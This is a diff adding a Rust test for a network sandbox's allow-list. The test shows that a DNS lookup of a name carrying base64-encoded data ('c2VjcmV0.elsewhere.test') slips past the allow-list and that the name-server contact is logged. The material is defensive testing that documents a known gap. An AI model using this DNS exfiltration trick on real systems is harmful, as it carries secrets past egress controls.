@@ -556,3 +556,26 @@ fn no_other_call_reaches_an_address_that_no_name_allows() {
     let errors = text(&ran.output.stderr);
     assert_eq!(errors.matches("PermissionError").count(), 6, "{errors}");
 }
+
+/// What 0006 does not hold, and says so: a question carries data to the name server, and on to whoever has the name. That the
+/// name server was spoken to is told.
+#[test]
+fn data_in_questions_passes_and_the_name_server_is_told() {
+    if !is_possible("data_in_questions_passes_and_the_name_server_is_told") {
+        return;
+    }
+    let network = Network::with(&["api.test,10.9.0.1"]);
+    let data = "c2VjcmV0.elsewhere.test";
+    let look_up = format!("getent ahosts {data}");
+    let (outcomes, ran) =
+        outcomes(&network, "{allow: ['api.test:80']}", &[&look_up, &curl("http://api.test/")]);
+    assert_eq!(outcomes, [false, true], "{}", text(&ran.output.stderr));
+    let log = std::fs::read_to_string(network.folder().join("log")).expect("the server's log");
+    assert!(log.to_ascii_lowercase().contains(&data.to_ascii_lowercase()), "{log}");
+    let is_told = ran.evidence.identity.effects.iter().any(|effect| {
+        matches!(effect, Effect::Net(net) if net.port == Some(Port::Number(53))
+            && net.result == EffectResult::Ok
+            && net.address.as_ref().is_some_and(|address| address.as_str() == SERVER[0]))
+    });
+    assert!(is_told, "{:?}", ran.evidence.identity.effects);
+}
